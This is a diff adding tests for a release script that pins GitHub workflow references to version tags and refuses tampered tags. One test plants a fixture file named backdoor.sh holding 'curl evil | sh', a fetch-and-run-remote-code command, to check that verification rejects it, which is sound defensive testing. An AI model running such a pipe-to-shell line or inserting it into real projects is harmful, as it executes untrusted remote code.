@@ -597,3 +597,74 @@ describe('metadata the checks rely on', () => {
     expect(unexplained).toEqual([]);
   });
 });
+
+describe('scripts/release.mjs', () => {
+  const sh = (cwd: string, cmd: string, ...args: string[]) =>
+    spawnSync(cmd, args, {
+      cwd,
+      encoding: 'utf8',
+      env: {
+        ...process.env,
+        GIT_AUTHOR_NAME: 't',
+        GIT_AUTHOR_EMAIL: 't@x',
+        GIT_COMMITTER_NAME: 't',
+        GIT_COMMITTER_EMAIL: 't@x',
+      },
+    });
+  const repo = () => {
+    const dir = mkdtempSync(join(tmpdir(), 'keelson-release-'));
+    mkdirSync(join(dir, '.github/workflows'), { recursive: true });
+    mkdirSync(join(dir, 'scripts'));
+    for (const f of ['service-deploy.yml', 'service-pipeline.yml'])
+      writeFileSync(join(dir, '.github/workflows', f), readFileSync(join(root, '.github/workflows', f)));
+    writeFileSync(join(dir, 'scripts/release.mjs'), readFileSync(join(root, 'scripts/release.mjs')));
+    sh(dir, 'git', 'init', '-q', '-b', 'main');
+    sh(dir, 'git', 'add', '.');
+    sh(dir, 'git', 'commit', '-qm', 'main');
+    sh(dir, 'git', 'update-ref', 'refs/remotes/origin/main', 'HEAD');
+    return dir;
+  };
+
+  it('prepare pins every Keelson reference to the tag on a commit beside main; verify accepts exactly that', () => {
+    const dir = repo();
+    const prep = sh(dir, 'node', 'scripts/release.mjs', 'prepare', '1.2.3');
+    expect(prep.status).toBe(0);
+    expect(readFileSync(join(dir, '.github/workflows/service-deploy.yml'), 'utf8')).toContain(
+      'actions/deploy@main',
+    );
+    const tagged = sh(dir, 'git', 'show', 'v1.2.3:.github/workflows/service-deploy.yml').stdout;
+    expect(tagged).toContain('uses: keelson-dev/keelson/actions/deploy@v1.2.3');
+    expect(tagged).not.toMatch(/keelson-dev\/keelson\/[^\s@]+@main/);
+    expect(sh(dir, 'git', 'rev-parse', 'v1.2.3^{commit}^').stdout).toBe(
+      sh(dir, 'git', 'rev-parse', 'main').stdout,
+    );
+    const ok = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.3');
+    expect(ok.stderr).toBe('');
+    expect(ok.status).toBe(0);
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('verify refuses a tag whose commit changes anything else, or whose parent is not on main', () => {
+    const dir = repo();
+    sh(dir, 'node', 'scripts/release.mjs', 'prepare', '1.2.3');
+    sh(dir, 'git', 'checkout', '-q', 'v1.2.3');
+    writeFileSync(join(dir, 'backdoor.sh'), 'curl evil | sh\n');
+    sh(dir, 'git', 'add', '.');
+    sh(dir, 'git', 'commit', '-qm', 'more');
+    sh(dir, 'git', 'tag', 'v1.2.4');
+    const bad = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.4');
+    expect(bad.status).toBe(1);
+    expect(bad.stderr).toContain('is not on main: release only what main has.');
+    sh(dir, 'git', 'checkout', '-q', 'main');
+    writeFileSync(join(dir, 'backdoor.sh'), 'curl evil | sh\n');
+    sh(dir, 'git', 'add', '.');
+    sh(dir, 'git', 'commit', '-qm', 'release with extra');
+    sh(dir, 'git', 'tag', 'v1.2.5');
+    sh(dir, 'git', 'update-ref', 'refs/remotes/origin/main', 'HEAD^');
+    const extra = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.5');
+    expect(extra.status).toBe(1);
+    expect(extra.stderr).toContain('backdoor.sh changed (only workflow pins may)');
+    expect(extra.stderr).toContain('still uses Keelson at @main');
+    rmSync(dir, { recursive: true, force: true });
+  });
+});
